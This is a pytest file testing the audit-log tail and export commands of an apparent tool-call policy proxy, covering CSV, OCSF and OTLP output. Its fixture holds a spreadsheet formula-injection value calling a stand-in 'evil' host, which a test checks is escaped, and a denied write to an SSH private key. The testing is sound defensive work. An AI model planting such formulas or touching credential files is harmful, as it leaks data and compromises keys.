"""Which calls `audit tail` and `audit export` read."""

import csv
import io
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import anyio
import orjson
import pytest

from ironcurtain_proxy.audit.log import AuditLog
from ironcurtain_proxy.audit.writer import LogSettings
from ironcurtain_proxy.cli import main
from ironcurtain_proxy.model.reply import AuditRecord, ResultSummary
from tests.audit.specimens import NOON, intent, record
from tests.tables import table

Command = Callable[..., tuple[int, str, str]]
DENIED = {"effect": "deny", "rule": "protected-path", "result": ResultSummary(status="denied")}

CALLS: tuple[AuditRecord, ...] = (
    record(1, {"timestamp": NOON - timedelta(days=2)}),
    record(2, {**DENIED, "tool": "write_file", "arguments": {"path": "/home/joe/.ssh/id_rsa"}}),
    intent(3, {"effect": "escalate", "escalation_result": "approved", "decided_by": "human"}),
    record(3, {"effect": "escalate", "escalation_result": "approved", "decided_by": "human"}),
    record(4, {"server": "git", "tool": "git_status", "client": "editor 1.0"}),
    record(5, {"arguments": {"path": '=HYPERLINK("http://evil/?"&A1)'}}),
    intent(6, {"server": "git", "tool": "git_push"}),
)


@pytest.fixture
def audit(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Command:
    """Runs `ironcurtain-proxy audit …` on a log of these calls."""
    log = AuditLog.open(tmp_path / "audit.jsonl", LogSettings())

    async def write() -> None:
        for call in CALLS:
            await log.record(call)

    anyio.run(write)
    log.close()

    def command(*arguments: str) -> tuple[int, str, str]:
        code = main(["audit", *arguments, "--log", str(log.path)])
        out, err = capsys.readouterr()
        return code, out, err

    return command


@pytest.mark.parametrize(
    ("conditions", "chosen"),
    table("audit/selecting.a_condition_chooses_the_same", list[tuple[tuple[str, ...], list[str]]]),
)
def test_a_condition_chooses_the_same_calls_everywhere(
    audit: Command, conditions: tuple[str, ...], chosen: list[str]
) -> None:
    exported = csv.DictReader(io.StringIO(audit("export", *conditions)[1]))
    assert [row["number"] for row in exported] == chosen
    listed = audit("tail", *conditions)[1].splitlines()[1:]
    assert [line.split()[0] for line in listed] == chosen


def test_tail_as_json_holds_the_chosen_lines_alone(audit: Command) -> None:
    lines = audit("tail", "--json", "--by", "person")[1].splitlines()
    assert [orjson.loads(line)["seq"] for line in lines] == [3, 4]


def test_a_time_that_is_none_is_refused_with_the_forms_that_are(
    audit: Command, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(SystemExit):
        audit("tail", "--since", "yesterday")
    assert "neither a span such as 24h nor a date" in capsys.readouterr().err


def test_a_cell_of_a_spreadsheet_is_never_a_formula(audit: Command) -> None:
    rows = list(csv.DictReader(io.StringIO(audit("export", "--grep", "HYPERLINK")[1])))
    assert [row["argument"] for row in rows] == ['\'=HYPERLINK("http://evil/?"&A1)']


def test_an_event_has_what_its_class_requires(audit: Command) -> None:
    events = [orjson.loads(line) for line in audit("export", "--format", "ocsf")[1].splitlines()]
    required = {"activity_id", "actor", "api", "category_uid", "class_uid", "metadata"}
    required |= {"severity_id", "src_endpoint", "time", "type_uid", "action_id"}
    assert all(required <= set(event) for event in events)
    denied = events[1]
    assert (denied["class_uid"], denied["type_uid"]) == (6003, 600399)
    assert (denied["action_id"], denied["disposition_id"], denied["status_id"]) == (2, 2, 2)
    assert denied["api"]["operation"] == "write_file"
    assert denied["api"]["request"]["data"] == {"path": "/home/joe/.ssh/id_rsa"}
    assert denied["time"] == int(NOON.timestamp() * 1000)
    assert denied["unmapped"]["policyDecision"]["rule"] == "protected-path"


def test_a_call_without_an_outcome_is_an_event_of_unknown_status(audit: Command) -> None:
    lines = audit("export", "--format", "ocsf", "--tool", "git_push")[1].splitlines()
    assert [orjson.loads(line)["status_id"] for line in lines] == [0]


def test_log_records_name_call_decision_and_time(audit: Command) -> None:
    lines = audit("export", "--format", "otlp")[1].splitlines()
    assert len(lines) == 1
    (resource,) = orjson.loads(lines[0])["resourceLogs"]
    records = resource["scopeLogs"][0]["logRecords"]
    assert len(records) == 6
    told = {one["key"]: one["value"] for one in records[1]["attributes"]}
    assert told["ironcurtain.decision"] == {"stringValue": "DENIED"}
    assert told["ironcurtain.duration_ms"]["intValue"].isdigit()
    assert records[1]["severityText"] == "WARN"
    assert records[1]["timeUnixNano"] == f"{int(NOON.timestamp() * 1000)}000000"


def test_an_export_that_cannot_be_written_leaves_what_was_there(
    audit: Command, tmp_path: Path
) -> None:
    target = tmp_path / "week.csv"
    assert audit("export", "-o", str(target))[0] == 0
    assert target.stat().st_mode & 0o777 == 0o600
    before = target.read_bytes()
    code, _, err = audit("export", "-o", str(tmp_path / "none" / "week.csv"))
    assert (code, "--output" in err) == (2, True)
    assert target.read_bytes() == before


@pytest.mark.parametrize("to_file", [False, True])
@pytest.mark.parametrize("style", ["csv", "ocsf", "otlp"])
def test_where_there_is_no_log_an_export_says_so_and_writes_nothing(
    capsys: pytest.CaptureFixture[str], tmp_path: Path, style: str, *, to_file: bool
) -> None:
    output = ["-o", str(tmp_path / "out")] if to_file else []
    missing = str(tmp_path / "none.jsonl")
    code = main(["audit", "export", "--format", style, *output, "--log", missing])
    out, err = capsys.readouterr()
    assert (code, out, [*tmp_path.iterdir()]) == (2, "", [])
    assert f"there is no audit log {missing}" in err
